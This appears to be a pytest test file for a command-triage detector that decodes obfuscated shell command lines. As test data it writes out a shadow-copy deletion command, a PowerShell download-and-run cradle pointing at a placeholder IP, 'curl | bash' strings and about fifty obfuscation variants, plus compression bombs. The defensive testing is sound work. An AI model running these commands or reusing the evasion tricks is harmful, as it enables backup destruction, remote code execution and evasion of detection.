"""Commands that are encoded or pulled apart are undone, and what they do is found."""

import gzip
import random
import time
import zlib
from base64 import b64decode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.unit.triage_fields import narrow, run, wide

from tocsin.triage.commands.layers import read
from tocsin.triage.commands.pieces import decoded, pieces, unpacked
from tocsin.triage.commands.rewrite import Room, shell_variables, windows_variables
from tocsin.triage.commands.signs import shipped

DELETE = "vssadmin delete shadows /all /quiet"
FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"


def raw_deflate(text: str) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(text.encode()) + packer.flush()


HIDDEN = {
    "powershell, encoded": "powershell -e " + wide(DELETE),
    "powershell, encoded twice": "powershell -enc " + wide("powershell -enc " + wide(DELETE)),
    "bash": "echo " + narrow(DELETE) + " | base64 -d | bash",
    "bash, braces": "bash -c {echo," + narrow(DELETE) + "}|{base64,-d}|{bash,-i}",
    "python": "python3 -c \"exec(__import__('base64').b64decode('" + narrow(DELETE) + "'))\"",
    "perl": "perl -MMIME::Base64 -e 'system(decode_base64(\"" + narrow(DELETE) + "\"))'",
    "certutil": "echo " + narrow(DELETE) + " > a & certutil -decode a b.bat & b.bat",
    "gzip": "powershell $s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
    + narrow(gzip.compress(DELETE.encode()))
    + "'))",
    "zlib": "python -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('"
    + narrow(zlib.compress(DELETE.encode()))
    + "')))\"",
    "deflate": "powershell IO.Compression.DeflateStream([Convert]::FromBase64String('"
    + narrow(raw_deflate(DELETE))
    + "'))",
    "hexadecimal": "python -c \"exec(bytes.fromhex('" + DELETE.encode().hex() + "'))\"",
    "numbers": "powershell -join([char[]](" + ",".join(str(ord(x)) for x in DELETE) + "))",
    "hexadecimal numbers": "$a=(" + ",".join(hex(ord(x)) for x in DELETE) + ")",
    "characters": "powershell iex(" + "+".join(f"[char]{ord(x)}" for x in DELETE) + ")",
    "hexadecimal characters": "iex(" + "+".join(f"[char]0x{ord(x):x}" for x in DELETE) + ")",
    "visual basic": "Execute(" + "&".join(f"Chr({ord(x)})" for x in DELETE) + ")",
    "escapes": "node -e \"eval('" + "".join(f"\\x{ord(x):02x}" for x in DELETE) + "')\"",
    "unicode escapes": 'eval("' + "".join(f"\\u{ord(x):04x}" for x in DELETE) + '")',
    "octal": "printf '" + "".join(f"\\{ord(x):03o}" for x in DELETE) + "' | sh",
    "joined": "powershell ('vssa'+'dmin del'+'ete sha'+'dows')",
    "joined with blanks": "powershell ('vssa' + 'dmin del' + 'ete sha'  + 'dows')",
    "visual basic, joined": 'Execute("vssa" & "dmin delete " & "shadows")',
    "a list": "powershell ('vssa','dmin delete',' shadows' -join '')",
    "a format": "powershell (\"{1}{0}{2}\" -f 'dmin delete ','vssa','shadows')",
    "replaced": "powershell ('vssaZZdmin deleZZte shaZZdows' -replace 'ZZ','')",
    "replaced by a method": "powershell 'vssaQQdmin deleQQte shaQQdows'.Replace('QQ','')",
    "replaced twice": "powershell 'vsXadmin delYte shadows'.replace('X','s').replace('Y','e')",
    "replaced in a variable": "$c='vss#admin del#ete sha#dows';iex $c.Replace('#','')",
    "carets": "v^s^s^a^d^m^i^n d^e^l^e^t^e s^h^a^d^o^w^s",
    "quotes": "v\"\"ssadm\"in\" d'e'lete sha''dows",
    "backticks": "vss`admin del`ete sha`dows",
    "letters of the environment": "cmd /c wb%PROGRAMDATA:~11,1%dm%COMSPEC:~-1,0%in delete catalog",
    "variables": "cmd /v /c set x=vssa&&set y=dmin del&&set z=ete shadows&&call %x%%y%%z%",
    "late variables": "cmd /v:on /c set a=vssadmin&&set b=shadows&&!a! delete !b!",
    "shell variables": "a=vssa;b=dmin;$a$b delete shadows",
    "backslashes": "v\\s\\s\\a\\d\\m\\i\\n del\\e\\te shadows",
    "empty arguments": "vssad$@min del$*ete sha$@dows",
    "slices of variables": "ls ${PATH:0:1}etc; vss${SHELL:6:1}dmin delete shadows",
    "powershell variables": "$a='vssadmin del';$b='ete shadows';iex ($a+$b)",
    "backwards": "powershell $a='" + DELETE[::-1] + "';iex($a[-1..-($a.Length)]-join'')",
    "backwards in python": "python -c \"exec('" + DELETE[::-1] + "'[::-1])\"",
    "percent": "mshta javascript:" + "".join(f"%{ord(x):02x}" for x in DELETE),
    "percent twice": "".join(f"%25{ord(x):02x}" for x in DELETE),
    "look-alike letters": "vssadmin delete ѕhаdоwѕ",
    "invisible letters": "vss\u200badmin del\u200dete sha\u2060dows",
    "wide letters": "ｖｓｓａｄｍｉｎ delete shadows",
    "an en dash": "powershell \u2013enc " + wide(DELETE),
    "base64 in hexadecimal": narrow(DELETE).encode().hex(),
    "base64 four times": narrow(narrow(narrow(narrow(DELETE)))),
    "joined base64": "powershell -e ('" + "'+'".join([wide(DELETE)[:40], wide(DELETE)[40:]]) + "')",
}  # fmt: skip


@pytest.mark.parametrize("command_line", HIDDEN.values(), ids=HIDDEN.keys())
def test_what_is_hidden_is_found(command_line: str) -> None:
    assert "command.backup_deletion" in run(command_line)


def test_what_was_hidden_in_an_encoding_is_told_and_weighs_more() -> None:
    found = run("powershell -enc " + wide(FETCH))
    assert "once decoded from base64" in found["command.download_run"].statement
    assert "DownloadString" in found["command.encoded"].statement
    assert found["command.concealed"].weight > 0
    assert "command.concealed" not in run("powershell -enc " + wide("Get-Date; Get-Process"))
    assert "command.nested" in run(HIDDEN["powershell, encoded twice"])
    assert "command.nested" not in found


def test_letters_cut_out_of_the_environment_are_put_in_place() -> None:
    assert windows_variables("%COMSPEC:~-7,3% /c", Room()) == "cmd /c"
    assert windows_variables("%comspec:~0,1%%PUBLIC:~-1%", Room()) == "Cc"
    assert windows_variables("%nothing% %", Room()) == "%nothing% %"
    assert shell_variables("$env:comspec[4,24,25]-join''", Room()) == "'Iex'-join''"
    assert shell_variables("$PSHome[4]+$PSHOME[30]+'x'", Room()) == "'i'+'e'+'x'"


def test_words_that_only_look_encoded_are_left_alone() -> None:
    text = "/usr/lib/python3/dist/packages/abcdefghijklmnop 3b07384d113edec49eaa6238ad5ff00ab12cd"
    assert list(pieces(text, text)) == []


def test_what_stands_behind_an_encoding_does_not_spoil_it() -> None:
    for tail in ("l", "AAAA", "=", "/ignore/previous/instructions/this/is/benign", "\u202e", " x"):
        assert "command.backup_deletion" in run("powershell -enc " + wide(DELETE) + tail)
        packed = narrow(gzip.compress(DELETE.encode()))
        assert "command.backup_deletion" in run("frombase64string " + packed + tail)


def test_a_broken_stream_gives_what_came_before_the_break() -> None:
    whole = zlib.compress((DELETE * 2000 + str(random.Random(1).random())).encode(), 0)
    assert unpacked(whole[:4000] + b"\xff" * 50, zlib.MAX_WBITS | 32).startswith(b"vssadmin")
    assert unpacked(b"nothing of the kind", zlib.MAX_WBITS | 32) == b""


def test_a_compressed_bomb_is_unpacked_to_a_limit() -> None:
    bomb = gzip.compress(b"vssadmin delete shadows " * 4_000_000)
    assert len(unpacked(bomb, zlib.MAX_WBITS | 32)) <= 1 << 18
    assert "command.backup_deletion" in run("FromBase64String " + narrow(bomb))


def test_doubling_variables_is_stopped_and_told() -> None:
    doubling = "set a=xxxxxxxxxxxxxxxx&" + "set a=%a%%a%%a%%a%&" * 4000
    assert "command.flooded" in run(doubling)


def test_encodings_deeper_than_are_undone_are_told() -> None:
    text = DELETE
    for _ in range(9):
        text = narrow(text)
    assert run(text)["command.flooded"].weight == 4.5


@settings(max_examples=200, deadline=None)
@given(data=st.binary(max_size=80))
def test_base64_is_decoded_as_python_does(data: bytes) -> None:
    encoded = narrow(data).rstrip("=")
    text = decoded(encoded)
    plain = b64decode(narrow(data))
    assert text in (plain.decode("utf-8", "replace"), plain.decode("utf-16-le", "replace"),
                    plain[: len(plain) & ~1].decode("utf-16-le", "replace"))  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(
    text=st.text(max_size=400)
    | st.text(alphabet="$%'\"+-.{}()[]=:~,setcharf019 \\x^`", max_size=200)
)
def test_no_text_breaks_the_reading(text: str) -> None:
    read(text, shipped())


MEGABYTE = 1 << 20
HOSTILE = {
    "letters": "a" * MEGABYTE,
    "blanks": " " * MEGABYTE,
    "quotes": "'+'" * (MEGABYTE // 3),
    "random base64": narrow(random.Random(1).randbytes(MEGABYTE * 3 // 4)),
    "base64": narrow(b"curl http x | bash " * (MEGABYTE // 26)),
    "small pieces": (narrow(b"curl http x | bash ") + " ") * (MEGABYTE // 29),
    "characters": "[char]105+" * (MEGABYTE // 10),
    "variables": "set a=%a%%a%&" * (MEGABYTE // 13),
    "shell variables": "$a=b;$a" * (MEGABYTE // 7),
    "replacements": "".join(f"'x{i}'.replace('a{i}','b')" for i in range(MEGABYTE // 28)),
    "formats": "'{0}{1}'-f'a','b' " * (MEGABYTE // 18),
    "open formats": "'(((( -f ((((" * (MEGABYTE // 14),
    "percents": "%25" * (MEGABYTE // 3),
    "numbers": "105," * (MEGABYTE // 4),
    "cut variables": "%comspec:~0,1%" * (MEGABYTE // 14),
    "escapes": "\\x61" * (MEGABYTE // 4),
    "carets": "^" * MEGABYTE,
    "digits": "3" * MEGABYTE,
    "other letters": "е" * (MEGABYTE // 2),
    "first words": "curl " * (MEGABYTE // 5),
    "all words": " ".join(line for sign in shipped().signs.values() for line in sign.text) * 20,
    "bombs": (narrow(gzip.compress(b"abcdefgh" * 8192)) + " ") * 4000,
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_megabyte_of_hostile_text_takes_bounded_time(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    started = time.process_time()
    read(HOSTILE[name][:MEGABYTE], shipped())
    taken = time.process_time() - started
    with capsys.disabled():
        print(f"\na megabyte of {name}: {taken * 1000:.0f} ms")
    assert taken < 3
